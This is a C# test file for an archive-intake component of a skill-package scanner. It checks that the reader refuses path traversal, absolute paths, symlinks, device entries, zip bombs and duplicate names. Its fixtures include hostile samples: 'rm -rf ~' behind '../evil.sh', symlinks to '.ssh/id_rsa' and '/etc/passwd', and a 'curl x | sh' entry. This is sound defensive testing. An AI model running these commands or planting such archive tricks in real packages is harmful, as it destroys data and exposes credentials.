using System.Formats.Tar;
using System.Security.Cryptography;
using SkillScan.Intake;
using SkillScan.Intake.Archives;
using SkillScan.Model;
using static SkillScan.Tests.Gate.TestArchives;

namespace SkillScan.Tests.Gate;

/// <summary>Archives are read in memory with every limit and refusal; nothing reaches the disk.</summary>
public sealed class ArchiveIntakeTests
{
    private static readonly IntakeOptions Options = new() { ReportRoot = "/nowhere" };

    private static Skill Read(byte[] bytes, ArchiveLimits? limits = null, string name = "t.zip") =>
        ArchiveIntake.ReadSkill(bytes, name, name, Options, limits);

    private static ScanNotification Refusal(Skill skill, string id) =>
        Assert.Single(skill.Notifications, n => n.Id == id);

    [Fact]
    public void ZipIsReadWithItsTopFolderStrippedAndItsBytesHashed()
    {
        var bytes = Zip(Entry("t/SKILL.md", MinimalSkillMd), Entry("t/scripts/run.py", "print(1)\n"));
        var skill = Read(bytes);
        Assert.Equal(["SKILL.md", "scripts/run.py"], skill.Files.Select(f => f.Path));
        Assert.Equal("t.zip!/scripts/run.py", skill.Files[1].RepoPath);
        Assert.Equal(Language.Python, skill.Files[1].Language);
        Assert.Equal(Convert.ToHexStringLower(SHA256.HashData(bytes)), skill.ArchiveSha256);
        Assert.DoesNotContain(skill.Notifications, n => n.Level != NotificationLevel.Note);
    }

    [Fact]
    public void TarAndTarGzAndDotSkillAreReadTheSameWay()
    {
        var tar = Tar(false, TarFile("SKILL.md", MinimalSkillMd), TarFile("a.sh", "echo hi\n"));
        var tgz = Tar(true, TarFile("SKILL.md", MinimalSkillMd), TarFile("a.sh", "echo hi\n"));
        Assert.Equal(ArchiveFormat.Tar, ArchiveIntake.Detect(tar));
        Assert.Equal(ArchiveFormat.TarGzip, ArchiveIntake.Detect(tgz));
        Assert.Equal(["SKILL.md", "a.sh"], Read(tar, name: "t.tar").Files.Select(f => f.Path));
        Assert.Equal(["SKILL.md", "a.sh"], Read(tgz, name: "t.tgz").Files.Select(f => f.Path));
        Assert.Equal(["SKILL.md"], Read(Zip(Entry("SKILL.md", MinimalSkillMd)), name: "t.skill").Files.Select(f => f.Path));
    }

    [Theory]
    [InlineData("../evil.sh")]
    [InlineData("t/../../evil.sh")]
    [InlineData("t\\..\\..\\evil.sh")]
    public void DotDotEntriesAreRefused(string name)
    {
        var skill = Read(Zip(Entry("SKILL.md", MinimalSkillMd), Entry(name, "rm -rf ~\n")));
        Assert.Equal(NotificationLevel.Error, Refusal(skill, ArchiveRefusals.Traversal).Level);
        Assert.Equal(["SKILL.md"], skill.Files.Select(f => f.Path));
    }

    [Theory]
    [InlineData("/etc/cron.d/evil")]
    [InlineData("C:/Windows/evil.bat")]
    public void AbsolutePathsAreRefused(string name)
    {
        var skill = Read(Tar(true, TarFile("SKILL.md", MinimalSkillMd), TarFile(name, "x")), name: "t.tgz");
        Assert.Equal(NotificationLevel.Error, Refusal(skill, ArchiveRefusals.AbsolutePath).Level);
        Assert.Single(skill.Files);
    }

    [Fact]
    public void SymlinkEntriesAreRefusedAndNeverFollowed()
    {
        var inside = Read(Tar(false, TarFile("SKILL.md", MinimalSkillMd), TarLink("docs", "SKILL.md")), name: "t.tar");
        Assert.Equal(NotificationLevel.Warning, Refusal(inside, ArchiveRefusals.Link).Level);
        var outside = Read(Tar(false, TarFile("SKILL.md", MinimalSkillMd), TarLink("key", "../../.ssh/id_rsa")), name: "t.tar");
        Assert.Contains("outside the archive", Refusal(outside, ArchiveRefusals.Traversal).Message);
        var zipLink = Read(Zip(Entry("SKILL.md", MinimalSkillMd), new ZipItem("cfg", "/etc/passwd"u8.ToArray(), 0xA000 | 0x1FF)));
        Assert.Contains("'/etc/passwd'", Refusal(zipLink, ArchiveRefusals.Traversal).Message);
        Assert.Equal(["SKILL.md"], zipLink.Files.Select(f => f.Path));
    }

    [Theory]
    [InlineData(TarEntryType.CharacterDevice)]
    [InlineData(TarEntryType.BlockDevice)]
    [InlineData(TarEntryType.Fifo)]
    public void DeviceEntriesAreRefused(TarEntryType type)
    {
        var skill = Read(Tar(false, TarFile("SKILL.md", MinimalSkillMd), TarSpecial(type, "dev")), name: "t.tar");
        Assert.Equal(NotificationLevel.Error, Refusal(skill, ArchiveRefusals.Device).Level);
    }

    [Fact]
    public void TooManyEntriesStopsReading()
    {
        var items = Enumerable.Range(0, 20).Select(i => Entry($"f{i:00}.txt", "x")).Prepend(Entry("SKILL.md", MinimalSkillMd)).ToArray();
        var skill = Read(Zip(items), new ArchiveLimits { MaxEntries = 5 });
        Refusal(skill, ArchiveRefusals.TooManyEntries);
        Assert.Equal(5, skill.Files.Count);
    }

    [Fact]
    public void OversizedEntriesAreSkippedAndTheTotalIsCapped()
    {
        var big = new string('a', 3000);
        var entry = Read(Zip(Entry("SKILL.md", MinimalSkillMd), Entry("big.txt", big)), new ArchiveLimits { MaxEntryBytes = 1000 });
        Refusal(entry, ArchiveRefusals.EntryTooLarge);
        Assert.Equal(["SKILL.md"], entry.Files.Select(f => f.Path));

        var total = Read(Tar(false, TarFile("SKILL.md", MinimalSkillMd), TarFile("a.txt", big), TarFile("b.txt", big)), new ArchiveLimits { MaxTotalBytes = 4000 }, "t.tar");
        Refusal(total, ArchiveRefusals.TooLarge);
        Assert.Equal(["SKILL.md", "a.txt"], total.Files.Select(f => f.Path));
    }

    [Fact]
    public void CompressionBombsAreRefusedInZipAndGzip()
    {
        var zeros = new byte[4 * 1024 * 1024];
        var zip = Read(Zip(Entry("SKILL.md", MinimalSkillMd), new ZipItem("pad.bin", zeros)));
        Assert.Equal(NotificationLevel.Error, Refusal(zip, ArchiveRefusals.Bomb).Level);
        Assert.DoesNotContain(zip.Files, f => f.Path == "pad.bin");

        var tgz = Tar(true, TarFile("SKILL.md", MinimalSkillMd), TarFile("pad.bin", zeros));
        Assert.True(tgz.Length * 100 < zeros.Length, "the test archive must compress past the ratio");
        Refusal(Read(tgz, name: "t.tgz"), ArchiveRefusals.Bomb);
    }

    [Fact]
    public void NestedArchivesAreReadUpToTheDepthLimit()
    {
        var innermost = Zip(Entry("deep.py", "print(3)\n"));
        var inner = Zip(Entry("mid.py", "print(2)\n"), new ZipItem("deeper.zip", innermost));
        var skill = Read(Zip(Entry("SKILL.md", MinimalSkillMd), new ZipItem("lib/inner.zip", inner)));
        Assert.Contains(skill.Files, f => f.Path == "lib/inner.zip!/mid.py" && f.RepoPath == "t.zip!/lib/inner.zip!/mid.py");
        Assert.DoesNotContain(skill.Files, f => f.Path.EndsWith("deep.py"));
        Assert.Contains("deeper.zip", Refusal(skill, ArchiveRefusals.NestingDepth).Message);

        var flat = Read(Zip(Entry("SKILL.md", MinimalSkillMd), new ZipItem("inner.zip", inner)), new ArchiveLimits { MaxNestingDepth = 1 });
        Refusal(flat, ArchiveRefusals.NestingDepth);
        Assert.DoesNotContain(flat.Files, f => f.Path.Contains('!'));
    }

    [Fact]
    public void DuplicateEntryNamesAreRefused()
    {
        var skill = Read(Zip(Entry("SKILL.md", MinimalSkillMd), Entry("run.sh", "echo harmless\n"), Entry("./run.sh", "curl x | sh\n")));
        Assert.Equal(NotificationLevel.Error, Refusal(skill, ArchiveRefusals.Duplicate).Level);
        Assert.Equal("echo harmless\n", skill.Files.Single(f => f.Path == "run.sh").Text);
    }

    [Fact]
    public void UnreadableInputIsAnArchiveError()
    {
        Assert.Throws<ArchiveException>(() => Read("not an archive at all"u8.ToArray()));
        var truncated = Zip(Entry("SKILL.md", MinimalSkillMd))[..30];
        Assert.Throws<ArchiveException>(() => Read(truncated));
        Assert.Throws<ArchiveException>(() => Read(Zip(Entry("SKILL.md", MinimalSkillMd)), new ArchiveLimits { MaxArchiveBytes = 10 }));
    }
}
